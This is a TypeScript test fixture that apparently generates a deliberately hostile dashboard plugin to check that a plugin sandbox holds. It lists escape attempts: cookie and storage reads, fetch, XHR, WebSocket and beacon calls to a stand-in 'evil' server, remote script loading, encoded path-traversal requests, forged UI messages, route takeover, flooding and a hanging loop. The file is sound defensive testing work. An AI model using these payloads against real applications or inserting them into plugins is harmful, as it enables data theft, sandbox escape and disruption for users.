/** What a hostile view tries, by what it would reach: each expression has to throw, or to give `refused`. `evil` is another server. */
export const attempts: Readonly<Record<string, string>> = {
  'reads cookies': 'document.cookie',
  'reads what the browser keeps': 'localStorage.length',
  'reads what the tab keeps': 'sessionStorage.length',
  'opens a database of the dashboard': 'indexedDB.open("x").result',
  'opens a cache of the dashboard': 'caches.open("x")',
  'reads the page around it': 'parent.document.body.innerHTML',
  'reads the address of the page around it': 'top.location.href',
  'reads the element that it is in': 'frameElement ?? refused',
  'reads a variable of the page around it': 'parent.sameDocument',
  'leads the page around it away': 'top.location = evil',
  'replaces the page around it': 'top.location.replace(evil)',
  'opens a window': 'open(evil) ?? refused',
  'asks the control plane itself': 'fetch("/api/v1/users/me")',
  'asks its own route itself': 'fetch("/api/v1/hostile")',
  'asks another server': 'fetch(evil)',
  'asks another server without reading': 'fetch(evil, { mode: "no-cors" })',
  'asks by the old way':
    'new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", evil); x.send(); })',
  'opens a socket':
    'new Promise((yes, no) => { const x = new WebSocket(evil.replace("http", "ws")); x.onopen = yes; x.onerror = no; })',
  'follows events itself':
    'new Promise((yes, no) => { const x = new EventSource("/api/v1/events"); x.onopen = yes; x.onerror = no; })',
  'loads a script from elsewhere': 'load("script", { src: evil })',
  'loads a script of the API': 'load("script", { src: "/api/v1/openapi.json" })',
  'loads a script of another plugin': 'load("script", { src: "/plugin-ui/auth/x/index.js", type: "module" })',
  'writes a script':
    'new Promise((yes, no) => { globalThis.ran = yes; const x = document.createElement("script"); x.textContent = "ran()"; document.head.append(x); setTimeout(no, 100); })',
  'makes code of text': 'new Function("return 1")()',
  'imports a module from elsewhere': 'import(evil)',
  'imports a module that it wrote':
    'import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))',
  'loads a picture from elsewhere': 'load("img", { src: evil })',
  'loads a style sheet from elsewhere': 'load("link", { rel: "stylesheet", href: evil })',
  'loads a font from elsewhere': 'new FontFace("x", `url(${evil})`).load()',
  'connects to a peer': 'new RTCPeerConnection()',
  'starts a worker':
    'new Promise((yes, no) => { const x = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); x.onmessage = yes; x.onerror = no; })',
  'registers a service worker': 'navigator.serviceWorker.register("index.js")',
  'asks for the camera': 'navigator.mediaDevices.getUserMedia({ video: true })',
  'asks for the place': 'new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))',
  'reads the clipboard': 'navigator.clipboard.readText()',
  'asks for who is signed in through the dashboard': 'client.request("GET", "/users/me")',
  'asks for the plugins': 'client.request("GET", "/plugins")',
  'turns a plugin off': 'client.request("POST", "/plugins/neighbour/disable")',
  'asks a route of another plugin': 'client.request("GET", "/neighbour")',
  'climbs out of its routes': 'client.request("GET", "/hostile/../users/me")',
  'climbs out in disguise': 'client.request("GET", "/hostile/%2e%2e/users/me")',
  'climbs out in another disguise': 'client.request("GET", "/hostile%2f..%2f..%2fusers/me")',
  'climbs out backwards': 'client.request("GET", "/hostile\\\\..\\\\users/me")',
  'names a route that only begins like its own': 'client.request("GET", "/hostiles")',
  'is led elsewhere by a route of its own': 'client.request("GET", "/hostile/away")',
  'asks by another method': 'client.request("TRACE", "/hostile")',
  'sends more than a view may': 'client.request("POST", "/hostile", { body: "x".repeat(270_000) })',
  'asks without end': 'Promise.all(Array.from({ length: 100 }, () => client.request("GET", "/hostile")))',
  'hears what happens to plugins': 'hears(["plugins"])',
  'connects to another frame in the name of the dashboard': `new Promise((yes, no) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = yes;
    for (let n = 0; n < parent.frames.length; n += 1)
      if (parent.frames[n] !== window) parent.frames[n].postMessage({ containr: "connect" }, "*", [n === 0 ? port2 : new MessageChannel().port2]);
    port1.postMessage({ type: "beat", beat: 1 });
    setTimeout(() => no(new Error("silence")), 400);
  })`,
};

/** Tried for what they do, not for what they give: nothing of it may be seen outside. */
const mischief = `
  parent.postMessage(JSON.stringify({ type: 'toast', text: 'Forged', kind: 'done', action: null }), '*');
  navigator.sendBeacon(evil);
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) put('link', { rel, href: evil, as: 'script' });
  put('meta', { httpEquiv: 'refresh', content: '0;url=' + evil });
  put('iframe', { src: evil });
  put('object', { data: evil });
  put('video', { src: evil });
  for (const target of ['_top', '_parent', '_blank', '_self']) {
    put('a', { href: evil, target }).click();
    const form = put('form', { action: evil, method: 'post', target });
    form.submit();
  }
  put('div', {}).style.background = 'url(' + evil + ')';
  dashboard.setPage({ title: 'Forged', crumbs: [] });
  router.push('/plugins');
  router.push('/settings/account');
`;

const endings: Readonly<Record<string, string>> = {
  flood: 'for (let n = 0; n < 100_000; n += 1) port.postMessage(JSON.stringify({ type: "changed" }));',
  garbage: 'port.postMessage({ type: "changed" });',
  unknown:
    'port.postMessage(JSON.stringify({ type: "request", id: 1, method: "GET", path: "/", headers: {}, body: null, more: 1 }));',
  huge: 'port.postMessage(JSON.stringify({ type: "toast", text: "x".repeat(400_000), kind: "done", action: null }));',
  leave: 'location.reload();',
  peer: `addEventListener('message', ({ data }) => data === 'gathered' && port.postMessage('gathered'));
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script src="' + new URL('peer.js', document.baseURI) + '"></' + 'script>' }));`,
  hang: 'setTimeout(() => { for (;;); }, 200);',
};

/** A script of its folder, for a document that it writes itself: connects to a peer over UDP. */
export function peerScript(port: number): string {
  return `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    peer.createDataChannel('x');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && parent.postMessage('gathered', '*');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
}

/** The browser module of a hostile plugin: a block on the overview that tries, and pages that end badly. */
export function hostileModule(evil: string): string {
  const tries = Object.entries(attempts).map(([name, code]) => `[${JSON.stringify(name)}, async () => (${code})]`);
  const ends = Object.entries(endings).map(([name, code]) => `${name}(port) { ${code} }`);
  return `
import { h, ref } from 'vue';
import { useRouter } from 'vue-router';
import { useDashboard } from '@containr/ui-kit';
const evil = ${JSON.stringify(evil)};
const refused = Symbol('refused');
const put = (name, properties) => { const x = Object.assign(document.createElement(name), properties); document.body.append(x); return x; };
const load = (name, properties) => new Promise((yes, no) => { const x = put(name, properties); x.onload = yes; x.onerror = no; });
let dashboard, client, router;
const hears = (topics) => new Promise((yes, no) => {
  dashboard.listen(topics, (event) => event && yes(event));
  setTimeout(() => no(new Error('silence')), 1500);
});
const tries = [${tries.join(',\n')}];
const endings = { ${ends.join(',\n')} };
const soon = (work) => Promise.race([work, new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 3000))]);
const Tries = {
  setup() {
    dashboard = useDashboard(); client = dashboard.client; router = useRouter();
    const done = ref(null);
    (async () => {
      const got = {};
      got.own = (await client.request('GET', '/hostile')).text;
      for (const [name, attempt] of tries) {
        try { const value = await soon(attempt()); got[name] = value === refused ? 'refused' : 'DONE ' + String(value).slice(0, 60); }
        catch (error) { got[name] = 'refused'; }
      }
      done.value = JSON.stringify(got);
      setTimeout(() => { ${mischief} }, 1500);
    })().catch((error) => (done.value = JSON.stringify({ broken: String(error) })));
    return () => h('pre', { id: 'done' }, done.value ?? '');
  },
};
const Ends = {
  props: ['how'],
  setup({ how }) {
    let port;
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...sent) { port = this; return send.apply(this, sent); };
    useDashboard().setPage({ title: how, crumbs: [] });
    MessagePort.prototype.postMessage = send;
    setTimeout(() => endings[how](port), 100);
    return () => h('p', how);
  },
};
const permission = null;
export default { contributions: [
  { outlet: 'dashboardSection', id: 'tries', permission, view: Tries },
  { outlet: 'page', id: 'ends', path: '/hostile/:how', title: 'Ends', permission, view: Ends },
  { outlet: 'navigation', id: 'mine', heading: 'install', label: 'Hostile', icon: 'plug', to: '/hostile/none', permission },
  { outlet: 'navigation', id: 'theirs', heading: 'install', label: 'Taken over', icon: 'plug', to: '/settings/account', permission },
  { outlet: 'page', id: 'projects', path: '/projects', title: 'Taken over', permission, order: 1, view: Tries },
  { outlet: 'page', id: 'plugins', path: '/plugins', title: 'Taken over', permission, order: 1, view: Tries },
  { outlet: 'page', id: 'all', path: '/:all', title: 'Taken over', permission, order: 1, view: Tries },
  { outlet: 'publicPage', id: 'sign-in', path: '/sign-in', title: 'Taken over', view: Tries },
  { outlet: 'settingsPage', id: 'account', label: 'Taken over', summary: '', permission, order: 1, view: Tries },
  { outlet: 'attention', id: 'a', permission, topics: [], read: async () => [{ id: 'a', level: 'failed', title: 'Look here', detail: '', action: { label: 'Mend', to: '/settings/account' } }] },
] };
`;
}
